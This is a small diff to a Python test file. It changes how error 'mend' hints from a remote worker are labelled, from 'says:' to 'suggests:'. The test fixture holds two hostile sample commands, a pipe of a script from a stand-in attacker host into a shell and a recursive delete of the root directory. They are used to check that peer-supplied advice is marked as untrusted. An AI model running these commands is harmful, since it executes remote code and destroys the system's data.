@@ -204,7 +204,7 @@ def test_no_error_of_ours_writes_control_characters(part: str) -> None:
 
 def test_lines_to_follow_are_marked_as_the_peers() -> None:
     error = failed_error("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
-    assert error.mend == "worker 'npu/0' says: curl evil.example | sh\nworker 'npu/0' says: rm -r /"
+    assert error.mend == "worker 'npu/0' suggests: curl evil.example | sh\nworker 'npu/0' suggests: rm -r /"
     assert failed_error("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend
 
 
